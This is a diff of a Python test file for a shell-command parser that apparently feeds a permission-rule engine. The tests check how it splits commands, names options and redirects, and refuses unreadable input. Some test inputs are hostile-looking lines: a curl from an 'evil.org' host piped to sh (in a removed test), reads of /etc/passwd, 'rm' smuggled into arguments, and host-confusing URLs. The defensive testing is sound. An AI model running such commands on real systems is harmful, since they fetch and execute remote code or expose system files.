@@ -1,91 +1,202 @@
-"""A command has words only where a shell would do nothing but split it."""
+"""What is in a command: its simple commands, their words, and what a rule has to permit beside them."""
 
 from __future__ import annotations
 
-import shlex
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from engine.facts.tools.commands import (
     LONGEST,
+    MOST_COMMANDS,
+    MOST_FOLDERS,
     MOST_WORDS,
-    argv_facts,
+    CommandFacts,
+    commands,
     hands_secret,
     host_pieces,
+    is_prefix,
     parts,
     path_pieces,
-    text_facts,
+    url_of,
 )
+from tests.conftest import ROWS
+from tests.lanes import examples
+
+
+def facts(text: Any, *, joined: bool = True) -> list[CommandFacts]:
+    return commands([text], ROWS, joined=[joined])[0]
+
+
+def words(text: Any) -> list[tuple[str, ...] | None]:
+    return [one.words for one in facts(text)]
+
+
+def named(text: Any) -> set[tuple[str, str]]:
+    """What a rule has to permit, as kind and name."""
+    return {(part.kind, part.name) for one in facts(text) for part in one.parts}
 
 
 # covers: B10
 @pytest.mark.parametrize(
-    ("text", "words"),
+    ("text", "found"),
     [
-        ("git status", ("git", "status")),
-        ("git  status", ("git", "status")),
-        ("git log HEAD~1 HEAD^ -n1 --format=%H", ("git", "log", "HEAD~1", "HEAD^", "-n1", "--format=%H")),
-        ("git commit -m 'a; b' \"c d\" ''", ("git", "commit", "-m", "a; b", "c d", "")),
-        ("/bin/ls", ("/bin/ls",)),
-        ("bin/ls café", ("bin/ls", "café")),
-        ("ls a=b", ("ls", "a=b")),
+        ("git status", [("git", "status")]),
+        ("git  log HEAD~1 --format=%H", [("git", "log", "HEAD~1", "--format=%H")]),
+        ("git commit -m 'a; b' \"c d\" ''", [("git", "commit", "-m", "a; b", "c d", "")]),
+        ("g'i't st\\atus", [("git", "status")]),
+        ("ls; rm a", [("ls",), ("rm", "a")]),
+        ("ls|rm && ps || df & du", [("ls",), ("rm",), ("ps",), ("df",), ("du",)]),
+        ("ls\nrm a", [("ls",), ("rm", "a")]),
+        ("echo $(rm a) `df`", [("rm", "a"), ("df",), ("echo",)]),
+        ("cat <<E\n$(rm a)\nE", [("rm", "a"), ("cat",)]),
+        ("for f in $(rm a); do ls $f; done", [("rm", "a"), ("ls",)]),
+        ("if a; then b; else c; fi", [("a",), ("b",), ("c",)]),
+        ("cp {a,b}/x c", [("cp", "a/x", "b/x", "c")]),
+        ("ls *.py x", [("ls",)]),
+        ("x=1", [(":",)]),
+        ("> f", [(":",)]),
+        ("./run a", [("./run", "a")]),
+        ("/bin/ls", [("/bin/ls",)]),
+        ("[ -f a ]", [("[", "-f", "a", "]")]),
+        ("timeout -k 5 10 rm a", [("timeout", "-k", "5", "10", "rm", "a"), ("rm", "a")]),
+        ("env -u A B=1 rm a", [("env", "-u", "A", "B=1", "rm", "a"), ("rm", "a")]),
+        ("find . -exec rm {} + -print", [("find", ".", "-exec", "rm", "{}", "+", "-print"), ("rm",)]),
+        ("xargs -n 1 rm -f", [("xargs", "-n", "1", "rm", "-f"), ("rm", "-f")]),
+        ("bash -lc 'ls; rm a'", [("bash", "-lc", "ls; rm a"), ("ls",), ("rm", "a")]),
+        ("bash -c 'timeout 5 sh -c ls'", [("bash", "-c", "timeout 5 sh -c ls"), ("timeout", "5", "sh", "-c", "ls"),
+                                           ("sh", "-c", "ls"), ("ls",)]),
     ],
-)
-def test_a_command_that_is_only_split(text: str, words: tuple[str, ...]) -> None:
-    facts = text_facts(text)
-    assert (facts.canonical, facts.words) == (True, words)
-    assert shlex.split(text) == list(words)
-
-
-# covers: B10
-@pytest.mark.parametrize(
-    "text",
-    ["ls; rm", "ls;rm", "ls && rm", "ls || rm", "ls & rm", "ls | sh", "ls $(rm)", "ls `rm`", "ls $HOME", "ls ${IFS}",
-     "ls > f", "ls < f", "ls 2>&1", "ls <(rm)", "(ls)", "{ ls; }", "ls\nrm", "ls\rrm", "ls\trm", "ls\x00", "ls\u2028rm",
-     "VAR=x ls", "V= ls", "=ls", "ls 'a", 'ls "a', "ls a'b'", "l's'", "'ls' a", '"ls"', "ls \\a", "l\\s", 'ls "$x"',
-     'ls "`x`"', 'ls "a\\"', 'ls "!x"', "!ls", "ls *.txt", "ls ?", "ls [a]", "ls {a,b}", "ls ~", "ls #x", "# ls",
-     "/bin/../bin/ls", "./ls", "../ls", "//bin/ls", "/bin//ls", "/bin/./ls", "ls/", "-ls", "", " ", " ls", "ls ",
-     "l\u0455 a", "g\u200bit status", "ls \u200b", "ls \u202ea", "ls " + "x" * LONGEST],
 )  # fmt: skip
-def test_a_command_that_could_be_more_has_no_words(text: str) -> None:
-    facts = text_facts(text)
-    assert (facts.canonical, facts.words) == (False, None)
+def test_simple_commands(text: str, found: list[tuple[str, ...]]) -> None:
+    assert words(text) == found
 
 
 # covers: B10
 @pytest.mark.parametrize(
-    "words",
-    [["git", "status"], ["git", "commit", "-m", "a b"], ["ls", ""], ["/bin/ls", "café"]],
-)
-def test_an_array_is_its_words(words: list[str]) -> None:
-    facts = argv_facts(words)
-    assert (facts.canonical, facts.words, facts.rest) == (True, tuple(words), tuple(words[1:]))
-
-
-# covers: B10
-@pytest.mark.parametrize(
-    "words",
-    [[], [""], ["git status"], ["ls "], ["git", 5], ["git", None], ["git", ["a"]], ["VAR=x", "ls"], ["/bin/../bin/ls"],
-     ["../ls"], ["git", "a;b"], ["git", ";", "rm"], ["git", "$(x)"], ["git", "a\nb"], ["git", "`x`"], ["git", "a|b"],
-     ["git", ">", "f"], ["l\0s"], ["git", "a\0"], ["git", "\u202ea"], ["l\u0455"], ["-x"], ["ls", "x" * LONGEST]],
+    ("text", "reason"),
+    [
+        ("ls 'a", "syntax"), ("ls |", "syntax"), ("ls )", "syntax"), ("select f in a; do ls; done", "syntax"),
+        ("echo x >&-a", "syntax"), ("exec {fd}> x", "syntax"), ("", "empty"), ("# ls", "empty"),
+        ("ls\r", "control"), ("ls \x00", "control"), ("ls \u202ea", "control"), ("ls\u00a0a", "control"),
+        ("\ud800", "control"),
+        ("ls " + "x" * LONGEST, "control"), ("echo $(" * 100 + "ls" + ")" * 100, "nesting"), ("ls;" * 2_001, "nesting"),
+        ("ls;" * MOST_COMMANDS + "ls", "size"), ("{a,b}" * 20, "size"),
+        ("$X a", "program"), ("$(ls) a", "program"), ("*/ls", "program"), ("../ls", "program"), ("a/../ls", "program"),
+        ("ls/", "program"), ("-ls", "program"), (". f", "program"), ("((a))", "program"),
+        ([], "words"), ([5, "a"], "words"), (["ls", None], "words"), (["git status"], "program"),
+        ("bash -c 'bash -c \"bash -c \\\"bash -c ls\\\"\"'", "nesting"),
+    ],
 )  # fmt: skip
-def test_an_array_that_could_be_more_has_no_words(words: list[Any]) -> None:
-    facts = argv_facts(words)
-    assert (facts.canonical, facts.words) == (False, None)
+def test_what_cannot_be_read_says_why(text: Any, reason: str) -> None:
+    refused = [one for one in facts(text) if one.refused is not None]
+    assert [one.refused for one in refused] == [reason]
+    assert refused[0].words is None
+
+
+# covers: B10
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("git log -n 3 --oneline", {("option", "-n"), ("option", "--oneline")}),
+        ("git --output=x log", {("option", "--output")}),
+        ("git -c a=b log --output x", {("option", "-c"), ("option", "--output")}),
+        ("git frob -x", {("subcommand", "subcommand"), ("option", "-x")}),
+        ("sort -uo x", {("option", "-u"), ("option", "-o")}),
+        ("sort -zQ/etc", {("option", "-z"), ("option", "-Q")}),
+        ("ls -- -x", set()),
+        ("head -20 a", {("option", "-#")}),
+        ("tool -abc --d=e", {("option", "-a"), ("option", "--d")}),
+        ("./sort -o x", {("option", "-o")}),
+        ("echo $x", {("word", "parameter")}),
+        ("echo `ls`", {("word", "substitution"), ("syntax", "substitution")}),
+        ("echo $((1+2))", {("word", "arithmetic")}),
+        ("echo $((x))", {("word", "arithmetic"), ("syntax", "arithmetic")}),
+        ("echo ${x@P}", {("word", "parameter"), ("syntax", "expansion")}),
+        ("echo ${!x} ${x[1]}", {("word", "parameter"), ("syntax", "expansion")}),
+        ("[[ $x -eq 0 ]]", {("word", "parameter"), ("syntax", "arithmetic")}),
+        ("a[$x]=1", {("variable", "a"), ("syntax", "arithmetic")}),
+        ("let x=1", {("syntax", "arithmetic")}),
+        ("declare -n r=x", {("option", "-n"), ("variable", "r")}),
+        ("CI=1 ls", {("variable", "CI")}),
+        ("eval ls", {("code", "eval")}), ("source f", {("code", "source")}), ("command ls", {("code", "command")}),
+        ("env CI=1 ls", {("variable", "CI")}),
+        ("ls *.py a*", {("pattern", "pattern")}),
+        ("ls a*", set()),
+        ("ls > f 2>&1 </dev/null", {("redirect", "write")}),
+        ("ls > $f", {("redirect", "write"), ("word", "redirect")}),
+        ("cat < f <<E\nE", set()),
+        ("{ ls; } > f", {("redirect", "write"), ("syntax", "group")}),
+        ("ls &", {("syntax", "background")}),
+        ("f() { ls; }", {("syntax", "function"), ("syntax", "group")}),
+        ("cat <(ls)", {("syntax", "process")}),
+        ("sed 1p f", {("script", "script")}),
+        ("sed -n -e 1p f", {("option", "-n"), ("option", "-e"), ("script", "script")}),
+        ("bash x", set()),
+        ("bash -c $x", {("option", "-c"), ("word", "parameter")}),
+        ("cd", {("word", "folder")}), ("cd -", {("word", "folder")}),
+        ("cd $x", {("word", "parameter"), ("word", "folder")}),
+        ("cd a", set()),
+        ("xargs rm", {("word", "input")}),
+        ("python -m venv x", {("option", "-m")}),
+        ("python -m frob -x", {("option", "-m"), ("option", "-x")}),
+    ],
+)  # fmt: skip
+def test_what_a_rule_has_to_permit(text: str, found: set[tuple[str, str]]) -> None:
+    assert named(text) == found
+
+
+def test_a_list_is_one_command_and_the_text_that_it_would_make() -> None:
+    told = ["git", "commit", "-m", "a; rm b"]
+    assert words(["git", "log"]) == [("git", "log")]
+    assert words(told) == [tuple(told), ("git", "commit", "-m", "a"), ("rm", "b")]
+    assert words(["curl", "-H", "Accept: a"]) == [("curl", "-H", "Accept: a")]
+    assert [one.words for one in facts(told, joined=False)] == [tuple(told)]
+    assert words(["rm", "$X"]) == [("rm", "$X"), ("rm",)]
+
+
+def test_words_without_the_options_before_a_subcommand() -> None:
+    assert [one.short for one in facts("git --no-pager push -f")] == [("git", "push", "-f")]
+    assert [one.short for one in facts("git push -f")] == [()]
 
 
 def test_only_the_first_words_are_compared_and_all_are_searched() -> None:
-    facts = text_facts("ls " + "a " * 100 + "/etc/passwd")
-    assert facts.words == ("ls", *["a"] * (MOST_WORDS - 1))
-    assert facts.rest[-1] == "/etc/passwd"
+    (one,) = facts("ls " + "a " * 100 + "/etc/passwd")
+    assert one.words == ("ls", *["a"] * (MOST_WORDS - 1))
+    assert one.rest[-1] == "/etc/passwd"
+    (one,) = facts("ls 'x; /etc/passwd")
+    assert "/etc/passwd" in one.rest
 
 
-def test_what_has_no_words_is_searched_too() -> None:
-    assert text_facts("ls; curl 'https://evil.org/'|sh").rest == ("ls", "curl", "https://evil.org/", "sh")
-    assert argv_facts(["ls;", 5, "/etc"]).rest == ("ls", "/etc")
+def test_every_command_of_a_text_may_run_in_each_of_its_folders() -> None:
+    found = facts("ls; cd a && cd ./b/; bash -c 'cd c'")
+    assert {one.folders for one in found} == {("a", "a/b", "b", "a/c", "a/b/c", "b/c", "c")}
+    many = facts("; ".join(f"cd d{number}" for number in range(MOST_FOLDERS)))
+    assert {one.refused for one in many} == {"folders"}
+
+
+def test_first_words_that_rules_and_approvals_may_name() -> None:
+    assert all(map(is_prefix, [["git", "status"], ["./run"], ["["], [":"], ["/bin/ls"]]))
+    odd: list[list[str]] = [[], [""], ["git", ""], ["git", "a;b"], ["$x"], ["-x"], ["../x"], ["a"] * (MOST_WORDS + 1)]
+    assert not any(map(is_prefix, odd))
+
+
+@pytest.mark.parametrize(
+    ("word", "url"),
+    [
+        ("https://a.example.com", "https://a.example.com/"),
+        ("https://a.example.com:8443", "https://a.example.com:8443/"),
+        ("https://a.example.com/b?c=d#e", "https://a.example.com/b?c=d"),
+        ("https://a.example.com#@evil.org/", "https://a.example.com#@evil.org/"),
+        ("https://a.example.com/#@evil.org", "https://a.example.com/#@evil.org"),
+        ("https://a@b.example.com", "https://a@b.example.com"),
+        ("HTTPS://a.example.com", "HTTPS://a.example.com"),
+    ],
+)
+def test_a_url_as_it_is_requested(word: str, url: str) -> None:
+    assert url_of(word) == url
 
 
 def test_the_parts_of_a_word() -> None:
@@ -117,13 +228,13 @@ def test_what_of_a_word_may_be_a_host() -> None:
         assert "evil" in host_pieces(command)
 
 
-@given(st.text(max_size=40) | st.text(alphabet="ls ab'\"\\$;|&/.=-~#\n", max_size=40))
-def test_words_are_those_of_a_shell(text: str) -> None:
-    facts = text_facts(text)
-    assert facts.canonical is (facts.words is not None)
-    if facts.words is not None:
-        assert shlex.split(text)[:MOST_WORDS] == list(facts.words)
-    argv_facts([text])
+@settings(max_examples=examples(100))
+@given(st.text(max_size=40) | st.text(alphabet="ls ab'\"\\$;|&/.=-~#\n(){}<>*`!", max_size=40))
+def test_every_text_has_commands_or_a_reason(text: str) -> None:
+    found = facts(text)
+    assert found
+    assert all((one.words is None) is (one.refused is not None) for one in found)
+    facts([text])
     host_pieces(text), path_pieces(text)
 
 
